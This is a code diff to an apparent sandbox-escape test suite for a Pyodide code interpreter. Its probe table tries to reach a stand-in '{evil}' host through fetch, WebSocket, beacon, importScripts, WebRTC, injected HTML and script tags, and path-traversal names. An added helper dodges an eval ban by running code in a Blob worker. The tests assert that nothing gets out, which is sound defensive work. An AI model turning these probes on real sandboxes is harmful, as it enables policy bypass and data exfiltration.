@@ -15,7 +15,16 @@ from tests.ui.lab_server import LabServer, start_lab_server
 
 pytestmark = pytest.mark.timeout(300)
 
-JS = "from pyodide.code import run_js\n"
+JS = """
+import js
+from pyodide.ffi import to_js
+def run_js(code):
+    # evaluating text is forbidden by the policy; a worker of code's own runs what it likes
+    source = js.Blob.new(to_js([code]))
+    js.Worker.new(js.URL.createObjectURL(source))
+def say(**message):
+    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
+"""
 WAIT = "\nimport asyncio\nawait asyncio.sleep(0.3)"
 
 PROBES = {
@@ -23,13 +32,14 @@ PROBES = {
     "fetch without cors": JS + "run_js(\"fetch('{evil}/no-cors', {{mode: 'no-cors'}})\")" + WAIT,
     "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch('{evil}/pyfetch')",
     "open_url": "from pyodide.http import open_url\nopen_url('{evil}/open-url')",
-    "xhr": JS + "run_js(\"const x = new XMLHttpRequest(); x.open('GET', '{evil}/xhr', false); x.send()\")",
+    "xhr": JS + "run_js(\"const x = new XMLHttpRequest(); x.open('GET', '{evil}/xhr', false); x.send()\")" + WAIT,
     "websocket": JS + "run_js(\"new WebSocket('{evil}/ws'.replace('http', 'ws'))\")" + WAIT,
     "eventsource": JS + "run_js(\"new EventSource('{evil}/es')\")" + WAIT,
     "beacon": JS + "run_js(\"navigator.sendBeacon('{evil}/beacon', 'x')\")" + WAIT,
-    "importScripts": JS + "run_js(\"importScripts('{evil}/scripts.js')\")",
+    "importScripts": JS + "run_js(\"importScripts('{evil}/scripts.js')\")" + WAIT,
     "restored importScripts": JS
-    + "run_js(\"WorkerGlobalScope.prototype.importScripts.call(self, '{evil}/again.js')\")",
+    + "run_js(\"WorkerGlobalScope.prototype.importScripts.call(self, '{evil}/again.js')\")"
+    + WAIT,
     "dynamic import": JS + "run_js(\"import('{evil}/module.js').catch(() => 0)\")" + WAIT,
     "nested worker": JS + "run_js(\"new Worker('{evil}/worker.js')\")" + WAIT,
     "nested blob worker": JS
@@ -39,7 +49,8 @@ PROBES = {
     "navigation": JS + "run_js(\"self.location = '{evil}/navigate'\")" + WAIT,
     "open": JS + "run_js(\"self.open('{evil}/open')\")" + WAIT,
     "webrtc": JS
-    + "run_js(\"new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:1'}}]}}).createDataChannel('x')\")",
+    + "run_js(\"new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:1'}}]}}).createDataChannel('x')\")"
+    + WAIT,
     "webtransport": JS + "run_js(\"new WebTransport('{evil}/wt'.replace('http:', 'https:'))\")" + WAIT,
     "requests": "import requests\nrequests.get('{evil}/requests', timeout=2)",
     "urllib": "import urllib.request\nurllib.request.urlopen('{evil}/urllib', timeout=2)",
@@ -55,16 +66,17 @@ PROBES = {
     + "run_js(\"new WebSocket('{lab}codeinterp/api/v1/events'.replace('http', 'ws'))\")"
     + WAIT,
     "asset outside": JS
-    + "for n in ['../../../api/contents', '/api/contents', '{evil}/asset', '..%2f..%2fapi', '__proto__']:\n"
-    "    run_js('(n) => postMessage({{type: \"want\", want: 1e6, name: n}})')(n)" + WAIT,
-    "forged end": JS
-    + 'run_js(\'postMessage({{type: "end", run: 999, outcome: "{{}}", files: []}}); postMessage({{type: "booted"}})\')',
+    + "for name in ('../../../api/contents', '/api/contents', '{evil}/asset', '..%2f..%2fapi', '__proto__'):\n"
+    "    say(type='want', want=1_000_000, name=name)" + WAIT,
+    "forged messages": JS + "say(type='end', run=999, outcome='{{}}', files=to_js([]))\n"
+    "say(type='booted')\nsay(type='nonsense')\nsay(type='event', event='no json')",
     "html output": "from IPython.display import HTML, Javascript, display\n"
     "display(HTML('<img src={evil}/img><script src={evil}/script></script><iframe src={evil}/frame></iframe>'))\n"
     "display(Javascript(\"fetch('{evil}/js')\"))",
     "markdown output": "from IPython.display import Markdown, display\ndisplay(Markdown('![x]({evil}/md)'))",
-    "storage": JS + "for n in ('localStorage', 'document', 'parent', 'top', 'cookieStore'):\n"
-    "    print(n, run_js(f'typeof self.{{n}}'))",
+    "evaluation": "from pyodide.code import run_js\nrun_js(\"fetch('{evil}/eval')\")" + WAIT,
+    "storage": JS + "for name in ('localStorage', 'document', 'parent', 'top', 'cookieStore'):\n"
+    "    print(name, 'there' if hasattr(js, name) else 'missing')",
 }
 """Code by what it tries; each may fail as it likes."""
 
@@ -114,8 +126,8 @@ async def test_nothing_gets_out(victim: LabServer) -> None:
     assert hits == []
     assert "api/contents" not in log.replace("api/contents?", "")
     assert "origin" not in log.lower()
-    assert "document undefined" in said
-    assert "localStorage undefined" in said
+    assert "document missing" in said
+    assert "localStorage missing" in said
 
 
 async def test_the_battery_can_see(tmp_path: Path) -> None:
